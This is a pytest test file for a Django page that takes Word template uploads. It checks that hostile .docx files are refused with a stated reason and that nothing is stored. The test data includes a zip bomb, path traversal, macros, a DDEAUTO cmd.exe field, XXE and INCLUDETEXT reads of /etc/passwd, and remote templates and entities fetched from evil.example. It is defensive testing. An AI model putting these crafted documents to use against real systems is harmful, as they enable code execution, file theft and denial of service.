"""Hostile Word templates through the page that takes them: refused with the reason, and nothing is stored."""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from documents.blueprints import template_path
from documents.models import DocumentTemplate
from people.models import AuditEvent, Membership
from tests.documents.test_docx_lint import PAYLOADS
from tests.documents.word import parts_of, with_change, with_part, word, zipped
from tests.factories.people import member, signed_in

PAGE = "/documents/templates/final_report/"
RELS = "word/_rels/document.xml.rels"
RELATION = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" {}/>'
# The payloads name fields of a small test paper: here the same with fields of the final report.
FIELDS = {"paper.title": "paper.project_title", "paper.rows": "paper.deliverables"}
GOOD = template_path("final_report").read_bytes()
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("warm_child")]


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = RELATION.format(kind, f'Target="{target}"{mode}')
    return with_change(RELS, "</Relationships>", relation + "</Relationships>")


def entity(declaration: str) -> bytes:
    return with_part("word/document.xml", f"<!DOCTYPE x [{declaration}]><x>&x;</x>".encode())


def coded(code: str) -> bytes:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    field = f"<w:p>{begin}<w:r><w:instrText>{code}</w:instrText></w:r>{end}</w:p>"
    return with_change("word/document.xml", "<w:body>", f"<w:body>{field}")


# name -> (file, a word of the reason or of the place)
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty file": (lambda: b"", "empty"),
    "PDF under a Word name": (lambda: b"%PDF-1.7 x", "not a .docx"),
    "old Word file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "not a .docx"),
    "workbook": (lambda: zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}), "no document text"),
    "half a file": (lambda: GOOD[: len(GOOD) // 2], "damaged"),
    "file with its end cut off": (lambda: GOOD[:-30], "damaged"),
    "2 MB and a byte": (lambda: b"PK" + b"\0" * (2 * 1024 * 1024), "2 MB"),
    "zip bomb": (lambda: with_part("word/media/a.png", b"\0" * 21 * 1024 * 1024), "unpacks"),
    "bomb by ratio": (lambda: with_part("word/media/a.png", b"\0" * 3 * 1024 * 1024), "unpacks"),
    "two hundred parts": (
        lambda: zipped({**parts_of(word("x")), **{f"word/media/{n}.png": b"x" for n in range(200)}}),
        "200 parts",
    ),
    "part outside": (lambda: with_part("../../etc/cron.xml", b"<x/>"), "outside"),
    "macro": (lambda: with_part("word/vbaProject.bin", b"x"), "macros"),
    "macro by content type": (
        lambda: with_change("[Content_Types].xml", "wordprocessingml.document.main", "ms-word.macroEnabled.main"),
        "macros",
    ),
    "OLE object": (lambda: with_part("word/embeddings/oleObject1.bin", b"x"), "embedded"),
    "ActiveX": (lambda: with_part("word/activeX/activeX1.xml", b"<x/>"), "embedded"),
    "altChunk": (
        lambda: with_change("word/document.xml", "<w:body>", '<w:body><w:altChunk r:id="rId1"/>'), "embedded"
    ),
    "attached template": (lambda: related("attachedTemplate", "http://evil.example/x.dotm"), "evil.example"),
    "picture from outside": (lambda: related("image", "http://evil.example/x.png"), "outside"),
    "share of a Windows machine": (lambda: related("image", "//evil.example/s/x.png"), "outside"),
    "local file": (lambda: related("hyperlink", "file:///etc/passwd"), "outside"),
    "DDE": (lambda: coded("DDEAUTO c:\\\\cmd.exe"), "field is not allowed"),
    "INCLUDETEXT": (lambda: coded("INCLUDETEXT file:///etc/passwd"), "field is not allowed"),
    "external entity": (lambda: entity('<!ENTITY x SYSTEM "file:///etc/passwd">'), "document type"),
    "billion laughs": (lambda: entity('<!ENTITY a "aaaaaaaaaa"><!ENTITY x "&a;&a;&a;&a;&a;">'), "document type"),
    "parameter entity": (lambda: entity('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;'), "document type"),
    "broken XML": (lambda: with_part("word/document.xml", b"<w:document>"), "not sound XML"),
    "payload in the page header": (lambda: word("x", header=PAYLOADS["cycler"]), "page header"),
    "payload in the page footer": (lambda: word("x", footer=PAYLOADS["cycler"]), "page footer"),
    "payload in the title": (lambda: word("x", title=PAYLOADS["cycler"]), "document properties"),
}  # fmt: skip


@pytest.fixture
def administrator(gia_lai) -> Client:
    """A client of the province's administrator."""
    return signed_in(member("gl-quantri", Membership.Role.ADMINISTRATOR, gia_lai.organisation))


def refused(client: Client, data: bytes, media: Path) -> str:
    """Upload the file and return what the page says about it, having seen that nothing of it stayed."""
    answer = client.post(PAGE, {"file": SimpleUploadedFile("mau.docx", data), "note": "x"})
    assert answer.status_code == 422
    assert not DocumentTemplate.objects.exists()
    assert not AuditEvent.objects.filter(verb__startswith="document.").exists()
    assert not [path for path in media.rglob("*") if path.is_file()]
    errors, faults = answer.context["form"].errors["file"], answer.context["faults"]
    return "\n".join([*errors, *(map(str, faults.faults) if faults else ())])


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_a_template_that_would_run_something_is_refused_naming_its_tag(administrator, payload, tmp_path):
    for known, here in FIELDS.items():
        payload = payload.replace(known, here)
    said = refused(administrator, word("Trước", payload, "Sau"), tmp_path / "media")
    place, tag = re.search(r"(text, paragraph \d).*“(.{3,80})”", said, re.DOTALL).groups()
    assert place == "text, paragraph 2"
    assert tag in payload


@pytest.mark.parametrize(("make", "reason"), FILES.values(), ids=FILES)
def test_a_file_that_is_no_plain_document_is_refused_with_the_reason(administrator, make, reason, tmp_path):
    assert reason in refused(administrator, make(), tmp_path / "media")


def test_a_file_of_200_mb_is_refused_by_its_size(administrator, tmp_path):
    size, form = 200 * 1024 * 1024, b"--x\r\nContent-Disposition: form-data; name="
    head = form + b'"note"\r\n\r\nx\r\n' + form + b'"file"; filename="mau.docx"\r\n\r\nPK'
    tail = b"\r\n--x--\r\n"
    answer = administrator.generic(
        "POST",
        PAGE,
        **{
            "wsgi.input": Pieces(head, size, tail),
            "CONTENT_LENGTH": str(len(head) + size + len(tail)),
            "CONTENT_TYPE": "multipart/form-data; boundary=x",
        },
    )
    assert answer.status_code == 422
    assert "2 MB" in " ".join(answer.context["form"].errors["file"])
    assert not DocumentTemplate.objects.exists()
    assert not [path for path in (tmp_path / "media").rglob("*") if path.is_file()]


class Pieces(io.RawIOBase):
    """A body that is made while it is read, so that the test does not hold it."""

    def __init__(self, head: bytes, size: int, tail: bytes) -> None:
        self.left = self._pieces(head, size, tail)
        self.rest = b""

    def _pieces(self, head: bytes, size: int, tail: bytes) -> Iterator[bytes]:
        yield head
        yield from (b"\0" * 65536 for _piece in range(size // 65536))
        yield tail

    def read(self, size: int = -1) -> bytes:
        if not self.rest:
            self.rest = next(self.left, b"")
        size = len(self.rest) if size < 0 else size
        piece, self.rest = self.rest[:size], self.rest[size:]
        return piece
